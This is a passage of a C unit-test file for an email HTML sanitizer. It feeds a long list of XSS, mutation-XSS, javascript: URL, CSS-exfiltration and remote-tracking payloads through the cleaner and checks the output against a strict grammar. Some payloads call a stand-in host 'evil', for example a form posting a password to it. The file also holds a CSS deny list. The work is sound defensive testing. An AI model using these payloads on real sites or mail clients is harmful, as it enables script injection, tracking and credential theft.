/*
 * The attacks below are cleaned, and the result is checked by a strict
 * grammar of its own: known elements, known attributes, addresses of known
 * kinds. Run with "--write FOLDER" it leaves the attacks and what became of
 * them there, for loading into a browser.
 */
#include "mime_test.h"

#include "base/buf.h"
#include "base/limits.h"
#include "base/scan.h"
#include "mime/html_clean.h"

/* ---- the grammar of a harmless document ---- */

static const char allowed_elements[] =
    " a abbr acronym address article aside b bdi bdo big blockquote br caption "
    "center cite code col colgroup dd del details dfn dir div dl dt em "
    "figcaption "
    "figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main "
    "mark nav ol p pre q s samp section small span strike strong sub summary "
    "sup table tbody td tfoot th thead tr tt u ul var wbr ";
static const char allowed_attributes[] =
    " align alt bgcolor border cellpadding cellspacing class clear color "
    "colspan dir face height href hspace id lang noshade nowrap open rel "
    "reversed role rowspan rules scope size span src start style summary "
    "target title type valign value vspace "
    "width ";
static const char void_elements[] = " br col hr img wbr ";
static const char lower[] = "abcdefghijklmnopqrstuvwxyz0123456789";

static bool
is_in(const char *list, struct str word)
{
	char padded[40];

	if (word.len + 2 >= sizeof(padded))
		return false;
	padded[0] = ' ';
	memcpy(padded + 1, word.ptr, word.len);
	padded[word.len + 1] = ' ';
	padded[word.len + 2] = '\0';
	return strstr(list, padded) != NULL;
}

/* Neither in a style attribute nor in a sheet. */
static const char *const bad_in_css[] = {"url", "\\", "expression",
    "position:", "import ", "binding", "behavior", "content:", "var(", "attr(",
    "image", "<", "javascript", "--", "calc", "/*", "cursor", "filter", "src",
    "transform:", "z-index", "animation", "visited", "[", "has(", "font-face"};

static bool
is_harmless_style(struct str value)
{
	for (size_t i = 0; i < sizeof(bad_in_css) / sizeof(bad_in_css[0]);
	     i++) {
		if (str_find_nocase(value, str_c(bad_in_css[i]), 0) < value.len)
			return false;
	}
	return str_find_byte(value, '@', 0) == value.len &&
	       str_find_byte(value, '{', 0) == value.len;
}

static bool
is_harmless_attribute(struct str name, struct str value, bool allow_remote)
{
	if (str_eq(name, STR("href")))
		return str_starts(value, STR("http://")) ||
		       str_starts(value, STR("https://")) ||
		       str_starts(value, STR("#m-")) ||
		       str_starts(value, STR("mailto:")) ||
		       str_starts(value, STR("/compose"));
	if (str_eq(name, STR("src")))
		return str_starts(value, STR("data:image/")) ||
		       str_starts(value, STR("/part/")) ||
		       (allow_remote && str_starts(value, STR("https://")));
	if (str_eq(name, STR("style")))
		return is_harmless_style(value);
	if (str_eq(name, STR("target")))
		return str_eq(value, STR("_blank")) ||
		       str_eq(value, STR("_self"));
	if (str_eq(name, STR("class")) || str_eq(name, STR("id")))
		return str_starts(value, STR("m-")) &&
		       str_find(value, STR(" iwm"), 0) == value.len;
	if (str_eq(name, STR("rel")))
		return str_eq(value, STR("noopener noreferrer"));
	return is_in(allowed_attributes, name);
}

/* Reads a tag after "<"; what is wrong with it, or NULL. */
static const char *
read_tag(struct scan *scan, size_t *depth, bool allow_remote)
{
	bool is_end = scan_byte(scan, '/');
	struct str name = scan_while(scan, lower);

	if (!is_in(allowed_elements, name))
		return "element";
	if (is_end) {
		(*depth)--;
		return scan_byte(scan, '>') ? NULL : "end tag";
	}
	if (!is_in(void_elements, name))
		(*depth)++;
	while (scan_byte(scan, ' ')) {
		struct str attribute = scan_while(scan, lower);
		struct str value = {0};
		if (!scan_str(scan, STR("=\"")))
			return "attribute";
		value = scan_until(scan, "\"<>");
		if (!scan_byte(scan, '"'))
			return "value";
		if (!is_harmless_attribute(attribute, value, allow_remote))
			return "harmful attribute";
	}
	return scan_byte(scan, '>') ? NULL : "tag";
}

/* The mail's own sheet, if there is one, is the first thing. */
static const char *
read_sheet(struct scan *scan)
{
	struct str css = {0};
	struct str rest = {0};

	if (!scan_str(scan, STR("<style>")))
		return NULL;
	css = scan_until_byte(scan, '<');
	if (!scan_str(scan, STR("</style>")))
		return "end of style";
	rest = css;
	while (str_find_byte(rest, '@', 0) < rest.len) {
		(void)str_cut(&rest, '@');
		if (!str_starts(rest, STR("media ")))
			return "at-rule";
	}
	for (size_t i = 0; i < sizeof(bad_in_css) / sizeof(bad_in_css[0]); i++)
		if (str_find_nocase(css, str_c(bad_in_css[i]), 0) < css.len)
			return bad_in_css[i];
	return NULL;
}

static const char *
find_harm(struct str html, bool allow_remote)
{
	struct scan scan = scan_of(html);
	size_t depth = 0;
	const char *sheet = NULL;

	if (!str_is_utf8(html))
		return "not UTF-8";
	sheet = read_sheet(&scan);
	if (sheet != NULL)
		return sheet;
	while (!scan_end(&scan)) {
		const char *harm = NULL;
		(void)scan_until(&scan, "<>\"'");
		if (scan_end(&scan))
			break;
		if (!scan_byte(&scan, '<'))
			return "text not escaped";
		harm = read_tag(&scan, &depth, allow_remote);
		if (harm != NULL)
			return harm;
		if (depth > LIMIT_HTML_DEPTH)
			return "depth";
	}
	return depth == 0 ? NULL : "not balanced";
}

/* ---- attacks ---- */

static const char *const attacks[] = {
    /* script and its spellings */
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
    "<script/x>alert(1)</script\n>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script type=module>import 'http://evil/x'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    /* handlers */
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<p ONCLICK=alert(1)>x",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b/onpointerenter=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    /* addresses */
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&#10;script&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
    "&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"//evil/x\">x</a>",
    "<a href=\"\\\\evil\\x\">x</a>",
    "<a href=\"/settings?delete=1\">x</a>",
    "<a href=\"https:settings\">x</a>",
    "<a href=\"https:/settings\">x</a>",
    "<a href=\"https:\\\\evil\">x</a>",
    "<a href=\"https:///evil\">x</a>",
    "<a href=\"?x\">x</a>",
    "<a href='https://x/\"onclick=alert(1)'>x</a>",
    "<a href=\"https://x/&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href=https://x target=_top rel=opener ping=http://evil>x</a>",
    "<a href=https://x download=x.exe>x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"data:image/png;base64,AAAA\" onerror=alert(1)>",
    "<img src='data:image/png;base64,AA\"><script>alert(1)</script>'>",
    "<img src=\"data:image/png,raw\">",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    /* what runs or is read differently by different parsers */
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg><image href=http://evil/x.png /></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror="
    "alert(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext>"
    "<textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<table><style><table><math href=\"</style><img src=1 onerror=alert(1)>"
    "\"></table>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>@import 'http://evil/x.css';</style>",
    "<style>body{background:url(http://evil/x)}</style>",
    "<style></style><style><img src=\"</style><img src=x onerror=alert(1)//"
    "\">",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=http://evil/x></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "</p><img src=x onerror=alert(1)></p>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;\">x",
    "<p title='\"><img src=x onerror=alert(1)>'>x",
    "<p title=`\"><img src=x onerror=alert(1)>`>x",
    "<p lang='x\" onclick=\"alert(1)'>x",
    "<font color='red\"onclick=alert(1)'>x</font>",
    "<font face='a\";b:url(x)'>x</font>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<img alt=\"<script>alert(1)</script>\">",
    "<img alt='&lt;img src=x onerror=alert(1)&gt;'>",
    /* documents within documents, forms, redirections */
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=http://evil/x type=text/html>x</object>",
    "<embed src=http://evil/x.swf>",
    "<applet code=x archive=http://evil/x.jar></applet>",
    "<portal src=http://evil/></portal>",
    "<meta http-equiv=refresh content=\"0;url=http://evil/\">",
    "<meta http-equiv=refresh content=\"0;javascript:alert(1)\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<base href=http://evil/><a href=x>x</a>",
    "<form action=http://evil/><input name=password type=password>"
    "<input type=submit></form>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=http://evil/x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<a id=x name=y class=z accesskey=a href=https://x>x</a>",
    "<div id=login-form class=button popover>x</div>",
    "<map name=m><area href=javascript:alert(1) shape=default></map>"
    "<img usemap=#m src=x>",
    /* loads without asking */
    "<img src=http://evil/x.png>",
    "<img src=https://evil/x.png width=1 height=1>",
    "<img src=\"//evil/x.png\">",
    "<img src=\"\\\\evil\\x.png\">",
    "<img src=\"ht\ntps://evil/x.png\">",
    "<img srcset=\"http://evil/x 1x, http://evil/y 2x\">",
    "<picture><source srcset=http://evil/x><img src=https://evil/y></picture>",
    "<img lowsrc=http://evil/x dynsrc=http://evil/y longdesc=http://evil/z>",
    "<image src=http://evil/x>",
    "<input type=image src=http://evil/x>",
    "<body background=http://evil/x>",
    "<table background=http://evil/x><tr background=//evil/y><td "
    "background=http://evil/z>x</table>",
    "<video poster=http://evil/x src=http://evil/y autoplay></video>",
    "<video><source src=http://evil/x><track src=http://evil/y></video>",
    "<audio src=http://evil/x autoplay></audio>",
    "<bgsound src=http://evil/x>",
    "<link rel=stylesheet href=http://evil/x.css>",
    "<link rel=dns-prefetch href=//evil>",
    "<link rel=preconnect href=http://evil>",
    "<link rel=prefetch href=http://evil/x>",
    "<link rel=preload as=image href=http://evil/x>",
    "<link rel=icon href=http://evil/x>",
    "<link rel=manifest href=http://evil/x>",
    "<html manifest=http://evil/x><p>x",
    "<blockquote cite=http://evil/x>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<script src=http://evil/x></script>",
    "<div style=\"background:url(http://evil/x)\">x</div>",
    "<div style=\"background-image:url('http://evil/x')\">x</div>",
    "<div style=\"background-image:\\75rl(http://evil/x)\">x</div>",
    "<div style=\"background-image:u\\rl(http://evil/x)\">x</div>",
    "<div style=\"background:url(http://evil/x\">x</div>",
    "<div style=\"background:u/**/rl(http://evil/x)\">x</div>",
    "<div style=\"background:&#117;rl(http://evil/x)\">x</div>",
    "<div style=\"list-style-image:url(http://evil/x)\">x</div>",
    "<div style=\"list-style:url(http://evil/x) circle\">x</div>",
    "<div style=\"cursor:url(http://evil/x),auto\">x</div>",
    "<div style=\"content:url(http://evil/x)\">x</div>",
    "<div style=\"border-image:url(http://evil/x) 30\">x</div>",
    "<div style=\"border-image-source:url(http://evil/x)\">x</div>",
    "<div style=\"mask:url(http://evil/x)\">x</div>",
    "<div style=\"filter:url(http://evil/x#f)\">x</div>",
    "<div style=\"clip-path:url(http://evil/x)\">x</div>",
    "<div style=\"shape-outside:url(http://evil/x)\">x</div>",
    "<div style=\"background:image-set('http://evil/x' 1x)\">x</div>",
    "<div style=\"background:-webkit-image-set(url(http://evil/x) 1x)\">x",
    "<div style=\"background:cross-fade(url(http://evil/x),red)\">x</div>",
    "<div style=\"background:src('http://evil/x')\">x</div>",
    "<div style=\"@import 'http://evil/x'\">x</div>",
    "<div style=\"color:red;@import url(http://evil/x);\">x</div>",
    "<div style=\"--x:url(http://evil/x);background:var(--x)\">x</div>",
    "<div style=\"background:attr(title url)\" title=http://evil/x>x</div>",
    "<div style=\"font:12px x;src:url(http://evil/x)\">x</div>",
    "<div style=\"font-family:'a';b:url(http://evil/x);'\">x</div>",
    "<div style=\"font-family:'a\\';background:url(http://evil/x)'\">x</div>",
    "<div style=\"color:red}body{background:url(http://evil/x)\">x</div>",
    "<div style=\"color:red/*;background:url(http://evil/x)\">x</div>",
    "<div style=\"color:red<!--;background:url(http://evil/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:e\\xpression(alert(1))\">x</div>",
    "<div style=\"width:ex/**/pression(alert(1))\">x</div>",
    "<div style=\"behavior:url(http://evil/x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(http://evil/x.xml#x)\">x</div>",
    "<div style=\"background:javascript:alert(1)\">x</div>",
    /* over our own page */
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x",
    "<div style=\"posi\\tion:absolute\">x</div>",
    "<div style=\"position/**/:fixed\">x</div>",
    "<div style=\"margin:-1000px\">x</div>",
    "<div style=\"width:99999999px\">x</div>",
    "<div style=\"z-index:9999\">x</div>",
    "<div style=\"color:red!important;pointer-events:none\">x</div>",
    "<div style='color:red\"onclick=alert(1)'>x</div>",
    "<div style=\"color:'\"><img src=x onerror=alert(1)>'\">x</div>",
    /* style sheets */
    "<style>a{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style>a{font-family:'\\3c/style\\3e\\3cimg src=x onerror=alert(1)>'}",
    "<style>.\\3c\\2fstyle\\3e{color:red}</style>",
    "<style>@im\\port 'http://evil/x';p{color:red}</style>",
    "<style>@\\69mport url(http://evil/x);</style>",
    "<style>@import/**/url(http://evil/x);</style>",
    "<style>@media screen{@import url(http://evil/x);p{color:red}}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil/x)}</style>",
    "<style>p{background:u\\72l(http://evil/x)}</style>",
    "<style>p{background-image:url('http://evil/x')}</style>",
    "<style>input[value^=a]{background:url(http://evil/a)}</style>",
    "<style>a:visited{background:url(http://evil/v)}</style>",
    "<style>p:has(b){color:red}a:visited{color:red}</style>",
    "<style>*{position:fixed;top:0;left:0}</style>",
    "<style>.iwm-host{display:none!important}#cut,.cut{display:none}</style>",
    "<style>p{color:red}</style><style>}body{top:0}</style>",
    "<style>p{content:attr(x)}p::after{content:'x'}</style>",
    "<style>p{color:expression(alert(1))}</style>",
    "<style>p{-moz-binding:url(http://evil/x)}</style>",
    "<style>p{animation:x}@keyframes x{from{left:0}}</style>",
    "<style media='x\"onload=alert(1)' onload=alert(1)>p{color:red}</style>",
    "<style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    "<p><style>b{color:red}</style><svg><style><img src=x onerror=alert(1)>",
    "<table><style>td{color:red}</style><tr><style></table><img src=x "
    "onerror=alert(1)>",
    "<span class='iwm-host' style='all:initial'>(really: bank)</span>",
    "<a href='#x\"onclick=alert(1)'>x</a><a href='#iwm'>y</a>",
    "<p id='x\" onclick=\"alert(1)' class='a\"b <script>'>x</p>",
    "<form id=a><input name=parentNode></form><a id=a name=href>x</a>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</details>",
    /* broken bytes */
    "<img src=x onerror=alert(1)\xc3>",
    "<\x00script>alert(1)</script>",
    "\xff<script\xff>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xef\xbc\x9cscript\xef\xbc\x9e"
    "alert(1)",
    "<a href=\"javas\xc2\xad"
    "cript:alert(1)\">x</a>",
    "<p>a&#0;b&#1;c&#x1b;d&#127;e&#x85;f&#xd800;g&#x110000;h&#13;i</p>",
};

static struct str
no_address(void *ctx, struct str id)
{
	(void)ctx;
	(void)id;
	return (struct str){0};
}

static struct html_clean_result
cleaned(struct arena *arena, struct str source, bool allow_remote)
{
	struct html_clean_options options = {
	    .allow_remote_images = allow_remote, .cid_address = no_address};
	struct html_clean_result result;
	struct err err = ERR_NONE;

	if (html_clean(source, &options, arena, &result, &err) != ERR_OK)
		fail_msg("%.60s: %s %s", source.ptr, err.message, err.detail);
	return result;
}

/* Harmless, and cleaning it again changes nothing. */
static void
check(struct arena *arena, struct str source, bool allow_remote)
{
	struct str in = heap_copy(source.ptr, source.len);
	struct html_clean_result once = cleaned(arena, in, allow_remote);
	struct html_clean_result twice =
	    cleaned(arena, once.body.s, allow_remote);
	const char *harm = find_harm(once.body.s, allow_remote);

	if (harm == NULL && !is_harmless_style(once.body_style))
		harm = "body style";
	if (harm != NULL)
		fail_msg("%s in \"%.*s\" of \"%.*s\"", harm,
		    STR_ARG(once.body.s), STR_ARG(source));
	expect_str("again", twice.body.s, once.body.s);
	heap_free(in);
}

static void
test_attacks(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		struct arena *arena = arena_new(TEST_ARENA_BYTES);
		struct str source = str_c(attacks[i]);
		if (str_eq(source, STR("<"))) /* the one that has a NUL */
			source = STR("<\0script>alert(1)</script>");
		check(arena, source, false);
		check(arena, source, true);
		arena_free(arena);
	}
}

/* Each attack within each of these, and each after each. */
static void
test_contexts(void **state)
{
	static const char *const contexts[] = {"<table>%s</table>",
	    "<table><tr>%s</tr></table>", "<p><b>%s</p>", "<pre>\n%s</pre>",
	    "<select>%s</select>", "<svg>%s</svg>", "<math><mtext>%s</math>",
	    "<ul><li>%s<li>x</ul>", "<a href=https://x>%s</a>", "<!--%s",
	    "<div title=\"%s\">", "<style>%s</style>",
	    "<template>%s</template>", "<noscript>%s</noscript>", "<h1><h2>%s",
	    "<button><p>%s</button>"};

	(void)state;
	for (size_t i = 0; i < sizeof(contexts) / sizeof(contexts[0]); i++) {
		struct arena *arena = arena_new(TEST_ARENA_BYTES);
		for (size_t j = 0; j < sizeof(attacks) / sizeof(attacks[0]);
		     j++) {
			struct str mark = str_c(contexts[i]);
			size_t at = str_find(mark, STR("%s"), 0);
			struct str source = str_join(arena,
			    (struct str[]){str_slice(mark, 0, at),
			        str_c(attacks[j]),
			        str_slice(mark, at + 2, mark.len)},
			    3);
			check(arena, source, false);
			arena_reset(arena);
		}
		arena_free(arena);
	}
}

/* ---- what is kept ---- */

#define LINK " target=\"_blank\" rel=\"noopener noreferrer\""

static const struct {
	const char *name;
	const char *input;
	const char *expected;
} rows[] = {
    {"text", "a < b & c", "a &lt; b &amp; c"},
    {"empty", "", ""},
    {"blanks only", "  \n ", ""},
    {"paragraphs", "<p>a<p>b", "<p>a</p><p>b</p>"},
    {"upper case", "<P ALIGN=CENTER>a</P>", "<p align=\"CENTER\">a</p>"},
    {"html, head, body",
        "<html><head><title>t</title></head><body><p>a</p></body></html>",
        "<p>a</p>"},
    {"link", "<a href='HTTPS://x.org/?a=1&b=2'>l</a>",
        "<a href=\"https://x.org/?a=1&amp;b=2\"" LINK ">l</a>"},
    {"link with a space", "<a href=' http://x.org/a b '>l</a>",
        "<a href=\"http://x.org/a%20b\"" LINK ">l</a>"},
    {"link with line breaks", "<a href='\n ht&#9;tps://x.\norg/ '>l</a>",
        "<a href=\"https://x.org/\"" LINK ">l</a>"},
    {"mailto", "<a href=mailto:a@b>l</a>",
        "<a href=\"mailto:a@b\"" LINK ">l</a>"},
    {"link within", "<a href=#top name=x>l</a>",
        "<a id=\"m-x\" href=\"#m-top\" target=\"_self\">l</a>"},
    {"link without address", "<a href=''>l</a>", "<a>l</a>"},
    {"names of the mail", "<p id=a class='b m-c iwm-host 2 d&lt;'>x</p>",
        "<p id=\"m-a\" class=\"m-b m-c m-iwm-host m-2\">x</p>"},
    {"sheet of the head",
        "<html><head><style>.a{color:red}</style></head><p class=a>x",
        "<style>.m-a{color:red}</style><p class=\"m-a\">x</p>"},
    {"sheets of the body",
        "<p>x</p><style>P{margin:0}</style><style>b > i"
        "{top:0;width:1px}</style>y",
        "<style>p{margin:0}b>i{width:1px}</style><p>x</p>y"},
    {"details", "<details open><summary>a</summary>b</details>",
        "<details open=\"\"><summary>a</summary>b</details>"},
    {"layout table", "<table role=presentation><tr role=alert><td>a</table>",
        "<table role=\"presentation\"><tbody><tr><td>a</td></tr></tbody>"
        "</table>"},
    {"table",
        "<table width=100% cellpadding=0><tr><td colspan=2 bgcolor=#fff>a",
        "<table width=\"100%\" cellpadding=\"0\"><tbody><tr><td colspan=\"2\" "
        "bgcolor=\"#fff\">a</td></tr></tbody></table>"},
    {"list", "<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
    {"font", "<font color=red size=+1 face='Arial, x'>a</font>",
        "<font color=\"red\" size=\"+1\" face=\"Arial, x\">a</font>"},
    {"pre keeps its first line", "<pre>\n\na</pre>", "<pre>\n\na</pre>"},
    {"pre with one line feed", "<pre>\na</pre>", "<pre>a</pre>"},
    {"misnested", "<b>a<i>b</b>c</i>", "<b>a<i>b</i></b><i>c</i>"},
    {"unknown element", "<o:p>a</o:p>", "a"},
    {"form is unwrapped", "<form>a<button>b</button></form>", "ab"},
    {"style", "<p style='COLOR: Red; margin:0 auto;'>a</p>",
        "<p style=\"color:Red;margin:0 auto\">a</p>"},
    {"style of colours",
        "<p style='color:rgb( 1, 2,3 );background:#FFF;border:1px solid "
        "rgba(0,0,0,.5)'>a</p>",
        "<p style=\"color:rgb(1,2,3);background-color:#fff;border:1px solid "
        "rgba(0,0,0,0.5)\">a</p>"},
    {"style of fonts",
        "<p style=\"font:bold 12px/1.5 'Segoe UI',Arial,sans-serif\">a</p>",
        "<p style=\"font:bold 12px/1.5 &#39;Segoe UI&#39;,Arial,sans-serif\">"
        "a</p>"},
    {"style, important", "<p style='color:red !important'>a</p>",
        "<p style=\"color:red!important\">a</p>"},
    {"style, one bad declaration", "<p style='x:y;color:red;top:0'>a</p>",
        "<p style=\"color:red\">a</p>"},
    {"background's colour is kept",
        "<p style='background:#FFF url(http://x) no-repeat'>a</p>",
        "<p style=\"background-color:#fff\">a</p>"},
    {"no image", "a<img>b", "ab"},
    {"image blocked", "<img src=https://x/a.png alt='A picture'>", "A picture"},
    {"data image", "<img src=data:image/png;base64,AAAA alt=x width=10>",
        "<img src=\"data:image/png;base64,AAAA\" alt=\"x\" width=\"10\">"},
    {"entities", "&eacute;&nbsp;&copy;&xyzzy;",
        "\xc3\xa9\xc2\xa0\xc2\xa9&amp;xyzzy;"},
    {"quirks: table in p", "<p>a<table><td>b</table>",
        "<p>a</p><table><tbody><tr><td>b</td></tr></tbody></table><p></p>"},
    {"nested links",
        "<a href=https://a/>1<table><td><a href=https://b/>2"
        "</table></a>",
        "<a href=\"https://a/\"" LINK ">1<table><tbody><tr><td>"
        "<a href=\"https://b/\"" LINK ">2</a></td></tr></tbody></table></a>"},
};

static void
test_kept(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct arena *arena = arena_new(TEST_ARENA_BYTES);
		struct str in = heap_copy(rows[i].input, strlen(rows[i].input));
		struct html_clean_result result = cleaned(arena, in, false);
		expect_str(
		    rows[i].name, result.body.s, str_c(rows[i].expected));
		heap_free(in);
		arena_free(arena);
	}
}

static const struct {
	const char *input;
	bool allow;
	uint32_t blocked;
	const char *expected;
} images[] = {
    {"<img src=https://x/a>", false, 1, ""},
    {"<img src=https://x/a>", true, 0, "<img src=\"https://x/a\">"},
    {"<img src=http://x/a alt=b>", true, 1, "b"},
    {"<img src=//x/a>", false, 1, ""},
    {"<img src=https://x/a width=1 height=1>", false, 0, ""},
    {"<img src=https://x/a width=1 height=1>", true, 0, ""},
    {"<img src=https://x/a style='width:1px;height:0'>", true, 0, ""},
    {"<img src=https://x/a width=1 height=10>", true, 0,
        "<img src=\"https://x/a\" width=\"1\" height=\"10\">"},
    {"<td background=http://x/a>", false, 1, ""},
    {"<table><td background=http://x/a></table>", false, 1,
        "<table><tbody><tr><td></td></tr></tbody></table>"},
    {"<p style='background:url(http://x)'>a</p>", false, 1, "<p>a</p>"},
    {"<body background=http://x>a", false, 1, "a"},
    {"<img src=cid:unknown alt=b>", true, 0, "b"},
    {"<img src=https://x/a srcset='https://x/b 2x' loading=eager>", true, 0,
        "<img src=\"https://x/a\">"},
};

static void
test_images(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(images) / sizeof(images[0]); i++) {
		struct arena *arena = arena_new(TEST_ARENA_BYTES);
		struct html_clean_result result =
		    cleaned(arena, str_c(images[i].input), images[i].allow);
		uint32_t blocked = images[i].blocked;
		/* A td outside of a table is no element at all. */
		if (str_starts(str_c(images[i].input), STR("<td")))
			blocked = 0;
		if (result.blocked_remote != blocked)
			fail_msg("%s: blocked %u", images[i].input,
			    result.blocked_remote);
		expect_str(
		    images[i].input, result.body.s, str_c(images[i].expected));
		arena_free(arena);
	}
}

static struct str
part_address(void *ctx, struct str content_id)
{
	return str_printf(ctx, "/part/%.*s?\"&s=1", STR_ARG(content_id));
}

static struct str
compose_address(void *ctx, struct str mailto)
{
	return str_printf(ctx, "/compose?%.*s", STR_ARG(mailto));
}

static void
test_addresses(void **state)
{
	struct arena *arena = arena_new(TEST_ARENA_BYTES);
	struct html_clean_options options = {.cid_address = part_address,
	    .mailto_address = compose_address,
	    .ctx = arena};
	struct html_clean_result result;
	struct err err = ERR_NONE;

	(void)state;
	/* The misnested link makes it pass twice. */
	assert_int_equal(
	    html_clean(STR("<img src=cid:a%40b><a href=mailto:x@y?cc=z>m"
	                   "<a href=javascript:x>n</a><p><p>"),
	        &options, arena, &result, &err),
	    ERR_OK);
	expect_str("addresses", result.body.s,
	    STR("<img src=\"/part/a@b?&quot;&amp;s=1\">"
	        "<a href=\"/compose?mailto:x@y?cc=z\"" LINK
	        ">m</a><a>n</a><p></p><p></p>"));
	arena_free(arena);
}

static void
test_body(void **state)
{
	struct arena *arena = arena_new(TEST_ARENA_BYTES);
	struct html_clean_result result = cleaned(arena,
	    STR("<body bgcolor=#FF0000 text='expression(1)' "
	        "style='margin:0;position:fixed'>x"),
	    false);

	(void)state;
	expect_str("body style", result.body_style,
	    STR("background-color:#ff0000;margin:0"));
	arena_free(arena);
}

/* Linear or cut off: none may take long or use the stack up. */
static void
test_hostile(void **state)
{
	static const struct {
		const char *head;
		const char *piece;
		size_t count;
	} hostile[] = {
	    {"", "<div>", 100000},
	    {"", "<b>", 100000},
	    {"", "<table><td>", 50000},
	    {"", "<a><table>", 20000},
	    {"", "<div><table><td></div></td></table>", 20000},
